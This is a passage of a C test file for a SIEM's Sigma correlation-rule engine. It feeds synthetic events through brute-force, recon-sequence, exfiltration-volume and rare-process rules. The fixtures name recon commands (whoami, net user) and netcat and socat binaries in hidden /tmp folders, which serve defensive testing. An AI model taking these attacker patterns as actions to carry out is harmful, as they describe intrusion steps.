		    NULL }, NULL, NULL);
		/* and an event without one of them is not counted */
		sb_feed(13, (const char *[]){ "EventID", "4625",
		    "TargetUserName", "eve", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("ex03", NULL), 1);
		free(corr);
	} else
		CHECK(corr != NULL);
	TEST_END();

	TEST_BEGIN("spec-corr-example04-gte-100");
	if ((corr = sb_around("extracted_examples/"
	    "sigma-correlation-rules_example04.yml",
	    "title: ex04\ncorrelation:\n"
		    "    type: event_count\n    rules:\n"
		    "        - failed_logon\n    group-by:\n"
		    "        - Host\n    timespan: 1h\n%s")) != NULL) {
		docs[1] = corr;
		CHECK(sb_setup(docs));
		for (i = 0; i < 99; i++)
			sb_feed(i, (const char *[]){ "EventID", "4625", "Host",
			    "h1", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("ex04", NULL), 0);
		sb_feed(99, (const char *[]){ "EventID", "4625", "Host",
		    "h1", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("ex04", "Host=h1"), 1);
		free(corr);
	} else
		CHECK(corr != NULL);
	TEST_END();

	TEST_BEGIN("spec-corr-example05-gt-100-lte-200");
	if ((corr = sb_around("extracted_examples/"
	    "sigma-correlation-rules_example05.yml",
	    "title: ex05\ncorrelation:\n"
		    "    type: event_count\n    rules:\n"
		    "        - failed_logon\n    group-by:\n"
		    "        - Host\n    timespan: 1h\n%s")) != NULL) {
		docs[1] = corr;
		CHECK(sb_setup(docs));
		/* 100 is not more than 100 */
		for (i = 0; i < 100; i++)
			sb_feed(i, (const char *[]){ "EventID", "4625", "Host",
			    "h2", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("ex05", NULL), 0);
		sb_feed(100, (const char *[]){ "EventID", "4625", "Host",
		    "h2", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("ex05", "Host=h2"), 1);
		/* other events of the rule's logsource are not counted */
		for (i = 0; i < 120; i++) {
			snprintf(n, sizeof(n), "%d", 4624 - (i % 2));
			sb_feed(200 + i, (const char *[]){ "EventID", n,
			    "Host", "h3", NULL }, NULL, NULL);
		}
		CHECK_INT(sb_alerts("ex05", "Host=h3"), 0);
		free(corr);
	} else
		CHECK(corr != NULL);
	TEST_END();
	free(base);
}

/* Examples 02, 06, 07: references by id and name, counts. */
static void
sb_counts(void)
{
	const char	*fail_id = "5638f7c0-ac70-491d-8465-2a65075e0d86";
	const char	*docs[4];
	char		*ex, *corr, *stubs[2], user[16];
	int		 i;

	stubs[0] = sb_stub(fail_id, "spec", "",
	    "        action: block\n");
	stubs[1] = sb_stub("firewall_block", "spec", "",
	    "        action: drop\n");

	TEST_BEGIN("spec-corr-example02-id-and-name");
	if ((ex = sb_example("extracted_examples/"
	    "sigma-correlation-rules_example02.yml")) != NULL) {
		/* its rules: list, completed in its own indentation */
		if (asprintf(&corr, "%s  type: event_count\n  group-by:\n"
		    "    - SourceIP\n  timespan: 1m\n  condition:\n"
		    "    gte: 2\n", ex) == -1)
			exit(1);
		docs[0] = stubs[0];
		docs[1] = stubs[1];
		docs[2] = corr;
		docs[3] = NULL;
		CHECK(sb_setup(docs));
		/* one hit of the rule named by id, one by name */
		sb_feed(0, (const char *[]){ "action", "block", "SourceIP",
		    "192.0.2.1", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("login brute force", NULL), 0);
		sb_feed(1, (const char *[]){ "action", "drop", "SourceIP",
		    "192.0.2.1", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("login brute force",
		    "SourceIP=192.0.2.1"), 1);
		/* an event neither rule matches counts for nothing */
		sb_feed(2, (const char *[]){ "action", "block", "SourceIP",
		    "192.0.2.2", NULL }, NULL, NULL);
		sb_feed(3, (const char *[]){ "action", "allow", "SourceIP",
		    "192.0.2.2", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("login brute force",
		    "SourceIP=192.0.2.2"), 0);
		free(corr);
		free(ex);
	} else
		CHECK(ex != NULL);
	TEST_END();

	free(stubs[1]);
	stubs[1] = sb_stub(fail_id, "spec", "", "        EventID: 4625\n");
	docs[0] = stubs[1];
	docs[2] = NULL;

	TEST_BEGIN("spec-corr-example06-event-count");
	if ((ex = sb_example("extracted_examples/"
	    "sigma-correlation-rules_example06.yml")) != NULL) {
		docs[1] = ex;
		CHECK(sb_setup(docs));
		/* generate is false: the failed logon raises nothing alone */
		CHECK(sigma_set_find(sb_set, fail_id) != NULL &&
		    !sigma_set_find(sb_set, fail_id)->standalone);
		for (i = 0; i < 99; i++)
			sb_feed(i * 30, (const char *[]){ "EventID", "4625",
			    "ComputerName", "ws1", NULL }, NULL, NULL);
		sb_feed(3000, (const char *[]){ "EventID", "4625",
		    "ComputerName", "ws2", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("Many failed logins", NULL), 0);
		sb_feed(3001, (const char *[]){ "EventID", "4625",
		    "ComputerName", "ws1", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("Many failed logins", "ComputerName=ws1"),
		    1);
		/* 100 spread over more than an hour: never 100 in one */
		CHECK(sb_setup(docs));
		for (i = 0; i < 100; i++)
			sb_feed(i * 37, (const char *[]){ "EventID", "4625",
			    "ComputerName", "ws3", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("Many failed logins", NULL), 0);
		free(ex);
	} else
		CHECK(ex != NULL);
	TEST_END();

	TEST_BEGIN("spec-corr-example06-generate-true");
	if ((ex = sb_example("extracted_examples/"
	    "sigma-correlation-rules_example06.yml")) != NULL) {
		/* the same with generate: true */
		if (asprintf(&corr, "%s    generate: true\n", ex) == -1)
			exit(1);
		docs[1] = corr;
		CHECK(sb_setup(docs));
		CHECK(sigma_set_rule(sb_set, 1)->corr != NULL &&
		    sigma_set_rule(sb_set, 1)->corr->generate == 1);
		CHECK(sigma_set_find(sb_set, fail_id) != NULL &&
		    sigma_set_find(sb_set, fail_id)->standalone);
		for (i = 0; i < 100; i++)
			sb_feed(i, (const char *[]){ "EventID", "4625",
			    "ComputerName", "ws4", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("Many failed logins", "ComputerName=ws4"),
		    1);
		free(corr);
		free(ex);
	} else
		CHECK(ex != NULL);
	TEST_END();

	TEST_BEGIN("spec-corr-example07-value-count");
	if ((ex = sb_example("extracted_examples/"
	    "sigma-correlation-rules_example07.yml")) != NULL) {
		docs[1] = ex;
		CHECK(sb_setup(docs));
		/* 200 failures of 99 users from one workstation: no */
		for (i = 0; i < 200; i++) {
			snprintf(user, sizeof(user), "u%d", i % 99);
			sb_feed(i * 60, (const char *[]){ "EventID", "4625",
			    "ComputerName", "dc1", "WorkstationName", "ws1",
			    "User", user, NULL }, NULL, NULL);
		}
		CHECK_INT(sb_alerts("Failed login", NULL), 0);
		/* the hundredth user, on another workstation: no */
		sb_feed(12001, (const char *[]){ "EventID", "4625",
		    "ComputerName", "dc1", "WorkstationName", "ws2",
		    "User", "u99", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("Failed login", NULL), 0);
		/* on the same one: yes */
		sb_feed(12002, (const char *[]){ "EventID", "4625",
		    "ComputerName", "dc1", "WorkstationName", "ws1",
		    "User", "u99", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("Failed login", "ComputerName=dc1,"
		    "WorkstationName=ws1"), 1);
		for (i = 0; i < (int)sb_ngot; i++)
			printf("# example07 group: %s\n", sb_got[i].group);
		/* a hundred users over more than a day: no */
		CHECK(sb_setup(docs));
		for (i = 0; i < 100; i++) {
			snprintf(user, sizeof(user), "u%d", i);
			sb_feed(i * 900, (const char *[]){ "EventID", "4625",
			    "ComputerName", "dc2", "WorkstationName", "ws1",
			    "User", user, NULL }, NULL, NULL);
		}
		CHECK_INT(sb_alerts("Failed login", NULL), 0);
		free(ex);
	} else
		CHECK(ex != NULL);
	TEST_END();
	sb_free(stubs, 2);
}

/* Examples 08, 09, 15: temporal, ordered, aliases. */
static void
sb_temporal(void)
{
	const char	*docs[5];
	char		*ex, *corr, *stubs[3], *e13, *e14;
	int		 i;
	static const char *cmds[] = { "whoami", "ipconfig", "net user" };

	TEST_BEGIN("spec-corr-example08-temporal");
	stubs[0] = sb_stub("recon_cmd_a", "spec", "", "        cmd: whoami\n");
	stubs[1] = sb_stub("recon_cmd_b", "spec", "",
	    "        cmd: ipconfig\n");
	stubs[2] = sb_stub("recon_cmd_c", "spec", "",
	    "        cmd: net user\n");
	if ((ex = sb_example("extracted_examples/"
	    "sigma-correlation-rules_example08.yml")) != NULL) {
		if (asprintf(&corr, "title: ex08\n%s", ex) == -1)
			exit(1);
		docs[0] = stubs[0];
		docs[1] = stubs[1];
		docs[2] = stubs[2];
		docs[3] = corr;
		docs[4] = NULL;
		CHECK(sb_setup(docs));
		/* all three, in any order, within five minutes */
		for (i = 2; i >= 0; i--)
			sb_feed(100 - i * 60, (const char *[]){ "cmd", cmds[i],
			    "ComputerName", "pc1", "User", "bob", NULL },
			    NULL, NULL);
		CHECK_INT(sb_alerts("ex08", "ComputerName=pc1,User=bob"), 1);
		/* two of three; the third by someone else; the third late */
		sb_feed(1000, (const char *[]){ "cmd", "whoami",
		    "ComputerName", "pc2", "User", "eve", NULL }, NULL, NULL);
		sb_feed(1010, (const char *[]){ "cmd", "ipconfig",
		    "ComputerName", "pc2", "User", "eve", NULL }, NULL, NULL);
		sb_feed(1020, (const char *[]){ "cmd", "net user",
		    "ComputerName", "pc2", "User", "mallory", NULL }, NULL,
		    NULL);
		sb_feed(1311, (const char *[]){ "cmd", "net user",
		    "ComputerName", "pc2", "User", "eve", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("ex08", NULL), 1);
		free(corr);
		free(ex);
	} else
		CHECK(ex != NULL);
	sb_free(stubs, 3);
	TEST_END();

	TEST_BEGIN("spec-corr-example09-temporal-ordered");
	stubs[0] = sb_stub("many_failed_logins", "spec", "",
	    "        EventID: 4625\n");
	stubs[1] = sb_stub("successful_login", "spec", "",
	    "        EventID: 4624\n");
	if ((ex = sb_example("extracted_examples/"
	    "sigma-correlation-rules_example09.yml")) != NULL) {
		if (asprintf(&corr, "title: ex09\n%s", ex) == -1)
			exit(1);
		docs[0] = stubs[0];
		docs[1] = stubs[1];
		docs[2] = corr;
		docs[3] = NULL;
		CHECK(sb_setup(docs));
		/* the success first: nothing */
		sb_feed(0, (const char *[]){ "EventID", "4624", "User", "eve",
		    NULL }, NULL, NULL);
		sb_feed(60, (const char *[]){ "EventID", "4625", "User", "eve",
		    NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("ex09", NULL), 0);
		/* failure, then success within the hour */
		sb_feed(100, (const char *[]){ "EventID", "4625", "User", "bob",
		    NULL }, NULL, NULL);
		sb_feed(3000, (const char *[]){ "EventID", "4624", "User",
		    "bob", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("ex09", "User=bob"), 1);
		/* a success more than an hour after */
		sb_feed(4000, (const char *[]){ "EventID", "4625", "User",
		    "carol", NULL }, NULL, NULL);
		sb_feed(7601, (const char *[]){ "EventID", "4624", "User",
		    "carol", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("ex09", NULL), 1);
		free(corr);
		free(ex);
	} else
		CHECK(ex != NULL);
	sb_free(stubs, 2);
	TEST_END();

	TEST_BEGIN("spec-corr-example15-aliases");
	e13 = sb_example("extracted_examples/"
	    "sigma-correlation-rules_example13.yml");
	e14 = sb_example("extracted_examples/"
	    "sigma-correlation-rules_example14.yml");
	ex = sb_example("extracted_examples/"
	    "sigma-correlation-rules_example15.yml");
	if (e13 != NULL && e14 != NULL && ex != NULL) {
		if (asprintf(&stubs[0], "title: ex13\nlogsource:\n"
		    "    product: spec\n%s", e13) == -1 ||
		    asprintf(&stubs[1], "title: ex14\nlogsource:\n"
		    "    product: spec\n%s", e14) == -1)
			exit(1);
		docs[0] = stubs[0];
		docs[1] = stubs[1];
		docs[2] = ex;
		docs[3] = NULL;
		CHECK(sb_setup(docs));
		/* an error on 10.0.0.5 for 203.0.113.9, then 10.0.0.5
		   connects out to 203.0.113.9: one group through aliases */
		sb_feed(0, (const char *[]){ "http.response.status_code",
		    "500", "source.ip", "203.0.113.9", "destination.ip",
		    "10.0.0.5", NULL }, NULL, NULL);
		sb_feed(8, (const char *[]){ "event.category", "network",
		    "event.type", "connection", "event.outcome", "success",
		    "source.ip", "10.0.0.5", "destination.ip", "203.0.113.9",
		    NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("—", "internal_ip=10.0.0.5,"
		    "remote_ip=203.0.113.9"), 1);
		for (i = 0; i < (int)sb_ngot; i++)
			printf("# example15 group: %s\n", sb_got[i].group);
		/* the connection the other way round: no */
		sb_feed(100, (const char *[]){ "http.response.status_code",
		    "500", "source.ip", "203.0.113.10", "destination.ip",
		    "10.0.0.6", NULL }, NULL, NULL);
		sb_feed(101, (const char *[]){ "event.category", "network",
		    "event.type", "connection", "event.outcome", "success",
		    "source.ip", "203.0.113.10", "destination.ip", "10.0.0.6",
		    NULL }, NULL, NULL);
		/* eleven seconds apart: no */
		sb_feed(200, (const char *[]){ "http.response.status_code",
		    "500", "source.ip", "203.0.113.11", "destination.ip",
		    "10.0.0.7", NULL }, NULL, NULL);
		sb_feed(211, (const char *[]){ "event.category", "network",
		    "event.type", "connection", "event.outcome", "success",
		    "source.ip", "10.0.0.7", "destination.ip", "203.0.113.11",
		    NULL }, NULL, NULL);
		/* a failed connection is not the second rule's */
		sb_feed(300, (const char *[]){ "http.response.status_code",
		    "500", "source.ip", "203.0.113.12", "destination.ip",
		    "10.0.0.8", NULL }, NULL, NULL);
		sb_feed(301, (const char *[]){ "event.category", "network",
		    "event.type", "connection", "event.outcome", "failure",
		    "source.ip", "10.0.0.8", "destination.ip", "203.0.113.12",
		    NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("—", NULL), 1);
		sb_free(stubs, 2);
	} else
		CHECK(0);
	free(e13);
	free(e14);
	free(ex);
	TEST_END();
}

/* Examples 10-12: sums, averages, percentiles of a field. */
static void
sb_values(void)
{
	const char	*docs[3];
	char		*ex, *base;
	int		 i;

	docs[2] = NULL;
	TEST_BEGIN("spec-corr-example10-value-sum");
	base = sb_stub("website_access", "spec", "", "        event: web\n");
	if ((ex = sb_example("extracted_examples/"
	    "sigma-correlation-rules_example10.yml")) != NULL) {
		docs[0] = base;
		docs[1] = ex;
		CHECK(sb_setup(docs));
		/* exactly 1,000,000 is not more */
		sb_feed(0, (const char *[]){ "event", "web", "SourceIP",
		    "10.1.1.1", "User", "bob", "bytes_sent", "600000", NULL },
		    NULL, NULL);
		sb_feed(10, (const char *[]){ "event", "web", "SourceIP",
		    "10.1.1.1", "User", "bob", "bytes_sent", "400000", NULL },
		    NULL, NULL);
		/* another user from the same address is another group */
		sb_feed(20, (const char *[]){ "event", "web", "SourceIP",
		    "10.1.1.1", "User", "eve", "bytes_sent", "900000", NULL },
		    NULL, NULL);
		CHECK_INT(sb_alerts("Possible Exfiltration to Website", NULL),
		    0);
		sb_feed(30, (const char *[]){ "event", "web", "SourceIP",
		    "10.1.1.1", "User", "bob", "bytes_sent", "1", NULL },
		    NULL, NULL);
		CHECK_INT(sb_alerts("Possible Exfiltration to Website",
		    "SourceIP=10.1.1.1,User=bob"), 1);
		/* two halves more than an hour apart */
		sb_feed(100, (const char *[]){ "event", "web", "SourceIP",
		    "10.1.1.2", "User", "bob", "bytes_sent", "700000", NULL },
		    NULL, NULL);
		sb_feed(3701, (const char *[]){ "event", "web", "SourceIP",
		    "10.1.1.2", "User", "bob", "bytes_sent", "700000", NULL },
		    NULL, NULL);
		CHECK_INT(sb_alerts("Possible Exfiltration to Website", NULL),
		    1);
		free(ex);
	} else
		CHECK(ex != NULL);
	free(base);
	TEST_END();

	TEST_BEGIN("spec-corr-example11-value-avg");
	base = sb_stub("rule_a_id", "spec", "", "        event: net\n");
	if ((ex = sb_example("extracted_examples/"
	    "sigma-correlation-rules_example11.yml")) != NULL) {
		docs[0] = base;
		docs[1] = ex;
		CHECK(sb_setup(docs));
		sb_feed(0, (const char *[]){ "event", "net", "SourceIP",
		    "10.2.2.2", "User", "bob", "BytesOut", "400", NULL },
		    NULL, NULL);
		sb_feed(1, (const char *[]){ "event", "net", "SourceIP",
		    "10.2.2.2", "User", "bob", "BytesOut", "600", NULL },
		    NULL, NULL);
		/* average 500: not more than 500 */
		CHECK_INT(sb_alerts("Suspicious average network traffic",
		    NULL), 0);
		sb_feed(2, (const char *[]){ "event", "net", "SourceIP",
		    "10.2.2.2", "User", "bob", "BytesOut", "530", NULL },
		    NULL, NULL);
		CHECK_INT(sb_alerts("Suspicious average network traffic",
		    "SourceIP=10.2.2.2,User=bob"), 1);
		free(ex);
	} else
		CHECK(ex != NULL);
	free(base);
	TEST_END();

	TEST_BEGIN("spec-corr-example12-value-percentile");
	base = sb_stub("process_creation", "spec", "",
	    "        event: proc\n");
	if ((ex = sb_example("extracted_examples/"
	    "sigma-correlation-rules_example12.yml")) != NULL) {
		docs[0] = base;
		docs[1] = ex;
		CHECK(sb_setup(docs));
		/* one of 51 (2%) is not in the lowest 1% */
		for (i = 0; i < 50; i++)
			sb_feed(i, (const char *[]){ "event", "proc",
			    "ComputerName", "pc9", "image", "/bin/bash",
			    NULL }, NULL, NULL);
		sb_feed(50, (const char *[]){ "event", "proc", "ComputerName",
		    "pc9", "image", "/tmp/.x/nc", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("A computer spawned a processes name in "
		    "the last 24h than 1% of all the processes.", NULL), 0);
		/* one of 101 is */
		for (i = 0; i < 50; i++)
			sb_feed(100 + i, (const char *[]){ "event", "proc",
			    "ComputerName", "pc9", "image", "/bin/bash",
			    NULL }, NULL, NULL);
		sb_feed(200, (const char *[]){ "event", "proc", "ComputerName",
		    "pc9", "image", "/tmp/.y/socat", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("A computer spawned a processes name in "
		    "the last 24h than 1% of all the processes.",
		    "ComputerName=pc9"), 1);
		free(ex);
	} else
		CHECK(ex != NULL);
	free(base);
	TEST_END();
}

/* Example 16, the chain, with generate false (as written) and true. */
static void
sb_chain(void)
{
	const char	*docs[2] = { NULL, NULL };
	const char	*top = "Correlation - Multiple Failed Logins Followed "
	    "by Successful Login";
	char		*ex, *gen, *p;
	struct sigma_rule *r;
	int		 k;

	if ((ex = sb_example("extracted_examples/"
	    "sigma-correlation-rules_example16.yml")) == NULL) {
		TEST_BEGIN("spec-corr-example16-chain");
		CHECK(ex != NULL);
		TEST_END();
		return;
	}
	TEST_BEGIN("spec-corr-example16-chain");
	docs[0] = ex;
	CHECK(sb_setup(docs));
	for (k = 0; k < 10; k++)
		sb_feed(k * 30, (const char *[]){ "EventID", k % 2 ? "4625" :
		    "529", "User", "bob", NULL }, NULL, NULL);
	sb_feed(400, (const char *[]){ "EventID", "4624", "User", "bob",
	    NULL }, NULL, NULL);
	CHECK_INT(sb_alerts(top, "User=bob"), 1);
	CHECK_INT(sb_alerts("Multiple failed logons", NULL), 0);
	/* nine failures, or the success of someone else */
	for (k = 0; k < 9; k++)
		sb_feed(1000 + k, (const char *[]){ "EventID", "4625", "User",
		    "eve", NULL }, NULL, NULL);
	sb_feed(1100, (const char *[]){ "EventID", "4624", "User", "eve",
	    NULL }, NULL, NULL);
	for (k = 0; k < 10; k++)
		sb_feed(2000 + k, (const char *[]){ "EventID", "4625", "User",
		    "mallory", NULL }, NULL, NULL);
	sb_feed(2100, (const char *[]){ "EventID", "4624", "User", "trent",
	    NULL }, NULL, NULL);
	CHECK_INT(sb_alerts(top, NULL), 1);
	TEST_END();

	/*
	 * generate: true on the top correlation: the rules it names run
	 * on their own as well (the event_count alerts, the success is a
	 * standalone rule); the single failed login stays fed only to the
	 * event_count, whose generate is still false.
	 */
	TEST_BEGIN("spec-corr-example16-generate-true");
	if ((p = strstr(ex, "    timespan: 10m\nfalsepositives")) == NULL) {
		printf("# example16: layout changed, generate not tested\n");
		CHECK(p != NULL);
	} else {
		p += strlen("    timespan: 10m\n");
		if (asprintf(&gen, "%.*s    generate: true\n%s",
		    (int)(p - ex), ex, p) == -1)
			exit(1);
		docs[0] = gen;
		CHECK(sb_setup(docs));
		r = sigma_set_find(sb_set, "successful_login");
		CHECK(r != NULL && r->standalone);
		r = sigma_set_find(sb_set, "multiple_failed_login");
		CHECK(r != NULL && r->standalone);
		r = sigma_set_find(sb_set, "failed_login");
		CHECK(r != NULL && !r->standalone);
		for (k = 0; k < 10; k++)
			sb_feed(k * 30, (const char *[]){ "EventID", "4625",
			    "User", "bob", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts("Multiple failed logons", "User=bob"), 1);
		CHECK_INT(sb_alerts(top, NULL), 0);
		sb_feed(400, (const char *[]){ "EventID", "4624", "User",
		    "bob", NULL }, NULL, NULL);
		CHECK_INT(sb_alerts(top, "User=bob"), 1);
		free(gen);
	}
	TEST_END();
	free(ex);
}

static void
test_spec_behaviour(void)
{
	static const char	 map[] =
	    "logsources:\n"
	    "    - name: spec\n"
	    "      product: spec\n"
	    "      fields:\n"
	    "          '*': data.*\n"
	    "    - name: windows-process\n"
	    "      product: windows\n"
	    "      category: process_creation\n"
	    "      fields:\n"
	    "          '*': data.*\n"
	    "    - name: windows-security\n"
	    "      product: windows\n"
	    "      service: security\n"
	    "      fields:\n"
	    "          '*': data.*\n";
	char			 err[SIGMA_REASON_LEN];

	if ((sb_map = sigma_map_load_buf(map, strlen(map), err,
	    sizeof(err))) == NULL) {
		TEST_BEGIN("spec-behaviour-map");
		printf("# %s\n", err);
		CHECK(sb_map != NULL);
		TEST_END();
		return;
	}
	printf("# correlation examples 01 (a header) and 13, 14 (rules "
	    "example 15 names) are run inside others\n");
	sb_filters();
	sb_fragments();
	sb_counts();
	sb_temporal();
	sb_values();
	sb_chain();
	sb_done();
	sigma_map_free(sb_map);
	sb_map = NULL;
}

int
main(void)
{
	struct stat	 st;
	char		 path[SC_PATH_MAX];

	if ((corpus = getenv("SIEMD_CORPUS")) == NULL)
		corpus = "../shared/corpus";
	snprintf(path, sizeof(path), "%s/sigma/rules", corpus);
	if (stat(path, &st) == -1) {
		printf("SKIP test-sigma-corpus: corpus not found\n");
		return (0);
	}
	test_main_set();
	test_side_folders();
	test_spec_schema();
	test_spec_examples();
	test_spec_behaviour();
	TEST_EXIT();
}
